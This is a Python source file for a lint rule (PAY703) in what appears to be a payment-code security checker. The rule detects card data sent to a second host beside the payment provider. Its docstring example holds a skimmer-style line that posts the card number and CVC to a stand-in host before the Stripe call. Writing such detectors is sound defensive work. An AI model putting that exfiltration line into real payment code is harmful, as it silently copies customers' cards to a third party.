"""Card data goes to a second destination beside the payment provider.

## What it does

Reports a request that carries card data to a host which is no payment provider's, where the same function, or another statement of a
function on the same way, sends the card to a provider. In scripts and pages it reports `fetch`, `XMLHttpRequest`, `sendBeacon`,
`axios`, jQuery and addresses of images that carry card data to a host written in the script, beside calls of a provider's script.

A host that cannot be read from the code is PAY104; it is reported here too if the file decodes and runs text. A stranger's host
without a provider beside it is PAY310.

## Why it matters

A payment needs one receiver. A second one, beside the first, is what a card skimmer looks like in code that was altered: the payment
goes through, nobody notices, and every card is copied. If it is there on purpose, it is a third party that the scope has to name.

## Example

```python
import requests
from django.http import HttpResponse


def pay(request):
    card = {"number": request.POST["card_number"], "cvc": request.POST["cvc"]}
    requests.post("https://cdn-stat.example.com/s.gif", data=card, timeout=2)  # expect: PAY703
    requests.post("https://api.stripe.com/v1/tokens", data=card, timeout=30)
    return HttpResponse("ok")
```

## Use instead

```python
import requests
from django.http import HttpResponse


def pay(request):
    card = {"number": request.POST["card_number"], "cvc": request.POST["cvc"]}
    requests.post("https://api.stripe.com/v1/tokens", data=card, timeout=30)
    return HttpResponse("ok")
```

## References

- PCI DSS v4.0.1, 6.2.4: software is written so that attacks on it do not work.
- PCI DSS v4.0.1, 12.10.7: there is a plan for account data that is found where it is not expected.
"""

from __future__ import annotations

from collections.abc import Iterator

from paylint.facts import Flow, Program
from paylint.finding import Confidence, Severity
from paylint.flows import Flows
from paylint.location import Location
from paylint.rule import Rule, Verdict
from paylint_rules.account_data import ACCOUNT_DATA, BESIDE
from paylint_rules.destinations import second_destinations
from paylint_rules.hosts import host_name
from paylint_rules.scope import ALTERATION, TAMPERING
from paylint_rules.sighted import verdict


def judge(program: Program) -> Iterator[Verdict]:
    """Judge servers by flows, pages and scripts by what stands side by side in them."""
    for location, (host, provider) in second_destinations(program).items():

        def here(flow: Flow, location: Location = location) -> bool:
            return flow.sink.location == location and not flow.sink.provider

        yield from Flows(
            channels=frozenset({"http"}),
            kinds=ACCOUNT_DATA,
            beside=BESIDE,
            where=here,
            message=f"{{data}} from {{origin}} {{is}} sent by {{callee}} to {host or 'a host that cannot be read'}, "
            f"a second destination beside the provider {provider}",
        )(program)
    providers = {sighting.location.path: sighting.provider for sighting in program.sighted("provider-script")}
    for sighting in program.sighted("script-sends"):
        if sighting.location.path in providers:
            provider = providers[sighting.location.path]
            host = host_name(sighting.name)
            message = f"the script sends card data to {host}, a second destination beside the provider {provider}"
            yield verdict(sighting, message, confidence=Confidence.MEDIUM, subject=host)


rule = Rule(
    code="PAY703",
    name="second-destination",
    summary="Card data goes to a second destination beside the payment provider.",
    severity=Severity.ERROR,
    judge=judge,
    remedy="Compare the file with the one that was released, and treat the difference as an incident.",
    meaning=ALTERATION,
    requirements=("6.2.4", "12.10.7"),
    guideline=(TAMPERING,),
)
